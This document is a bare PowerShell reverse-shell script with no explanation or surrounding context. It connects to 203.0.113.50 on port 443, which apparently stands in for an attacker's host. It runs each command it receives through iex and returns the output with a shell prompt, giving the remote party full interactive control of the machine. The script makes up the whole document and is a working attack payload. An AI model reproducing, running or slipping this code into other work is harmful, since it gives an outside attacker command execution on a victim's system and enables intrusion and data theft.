$c = New-Object System.Net.Sockets.TCPClient('203.0.113.50', 443)
$s = $c.GetStream(); [byte[]]$b = 0..65535 | % {0}
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
  $d = (New-Object System.Text.ASCIIEncoding).GetString($b, 0, $i)
  $r = (iex $d 2>&1 | Out-String)
  $r2 = $r + 'PS ' + (pwd).Path + '> '
  $sb = ([text.encoding]::ASCII).GetBytes($r2)
  $s.Write($sb, 0, $sb.Length); $s.Flush()
}
$c.Close()
